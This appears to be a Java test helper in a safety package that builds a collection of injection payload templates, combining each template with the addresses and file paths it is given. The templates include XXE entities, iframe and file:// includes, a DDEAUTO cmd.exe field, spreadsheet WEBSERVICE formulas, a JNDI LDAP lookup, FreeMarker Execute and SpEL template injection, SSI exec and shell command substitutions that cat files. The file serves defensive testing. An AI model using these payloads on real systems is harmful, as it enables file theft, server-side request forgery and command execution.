package org.fangxin.safety;

import java.util.List;
import java.util.stream.IntStream;

/** Texts that whoever lays them out carelessly would fetch something for: from the net, from this machine, from a file of it. */
final class ReachTexts {
    /** Stands in each of them. */
    static final String MARK = "fx11";

    /** {@code {net}} is an address, {@code {file}} the path of a file of this machine. */
    private static final List<String> ALL = List.of(
            "{net}",
            "<img src=\"{net}\">",
            "<img src='file://{file}'>",
            "<img srcset=\"{net} 1x\" src=x>",
            "<link rel=stylesheet href=\"{net}\">",
            "<link rel=attachment href=\"file://{file}\">",
            "<annotation file=\"{file}\" content=\"file://{file}\" />",
            "<pd4ml:attachment src=\"file://{file}\" description=x />",
            "<iframe src=\"file://{file}\"></iframe>",
            "<iframe src=\"{net}\"></iframe>",
            "<object data=\"file://{file}\" type=text/plain></object>",
            "<embed src=\"{net}\">",
            "<video poster=\"{net}\" src=\"{net}\"></video>",
            "<base href=\"{net}\"><img src=a.png>",
            "<meta http-equiv=refresh content=\"0;url={net}\">",
            "<style>@import url('{net}');</style>",
            "<p style=\"background:url({net})\">",
            "<style>@font-face{font-family:x;src:url('{net}')}*{font-family:x}</style>",
            "<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"{net}\"/></svg>",
            "<svg><use href=\"{net}#a\"/></svg>",
            "<script>fetch('{net}')</script>",
            "<!DOCTYPE a [<!ENTITY e SYSTEM \"file://{file}\">]><a>&e;</a>",
            "<!DOCTYPE a SYSTEM \"{net}\"><a/>",
            "<?xml-stylesheet type=\"text/xsl\" href=\"{net}\"?><a/>",
            "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file://{file}\" parse=\"text\"/>",
            "<fo:external-graphic src=\"url('{net}')\"/>",
            "<w:altChunk r:id=\"{net}\"/>",
            "{ INCLUDEPICTURE \"{net}\" \\* MERGEFORMAT }",
            "{ INCLUDETEXT \"{file}\" }",
            "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k\" }",
            "=WEBSERVICE(\"{net}\")",
            "=IMPORTXML(\"{net}\",\"//a\")",
            "=HYPERLINK(\"{net}\",\"x\")",
            "='file://{file}'#$Sheet1.A1",
            "file://{file}",
            "file://localhost{file}",
            "file:{file}",
            "{file}",
            "../../../../../../../..{file}",
            "php://filter/convert.base64-encode/resource={file}",
            "phar://{file}/x",
            "expect://cat {file}",
            "jar:{net}!/x",
            "jar:file:{file}!/x",
            "netdoc:{file}",
            "view-source:file://{file}",
            "\\\\192.0.2.9\\share\\x",
            "//192.0.2.9/share/x",
            "smb://192.0.2.9/share/x",
            "ftp://192.0.2.9/x",
            "gopher://192.0.2.9:25/_x",
            "ldap://192.0.2.9/x",
            "dict://192.0.2.9:11211/x",
            "![x]({net})",
            "![x](file://{file})",
            "[x]: {net}",
            ".. include:: {file}",
            ".. image:: {net}",
            "include::{file}[]",
            "image::{net}[]",
            "\\input{{file}}",
            "\\includegraphics{{net}}",
            "${jndi:ldap://192.0.2.9/x}",
            "${file:UTF-8:{file}}",
            "${url:UTF-8:{net}}",
            "#{T(java.nio.file.Files).readString(T(java.nio.file.Path).of('{file}'))}",
            "${T(java.net.URI).create('{net}').toURL().openStream()}",
            "{{\"{file}\"|file_excerpt(1,30)}}",
            "<#include \"{file}\">",
            "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"cat {file}\")}",
            "#include(\"{file}\")",
            "<%@ include file=\"{file}\" %>",
            "<!--#include virtual=\"{file}\" -->",
            "<!--#exec cmd=\"cat {file}\" -->",
            "$(cat {file})",
            "`cat {file}`",
            "| cat {file}");

    private ReachTexts() {}

    /**
     * Each of them with each address and each file.
     *
     * @param addresses that nobody may be brought to call
     * @param files that nobody may be brought to read
     */
    static List<String> all(List<String> addresses, List<String> files) {
        return IntStream.range(0, ALL.size() * Math.max(addresses.size(), files.size()))
                .mapToObj(i -> MARK + " "
                        + ALL.get(i % ALL.size())
                                .replace("{net}", addresses.get(i / ALL.size() % addresses.size()))
                                .replace("{file}", files.get(i / ALL.size() % files.size())))
                .toList();
    }
}
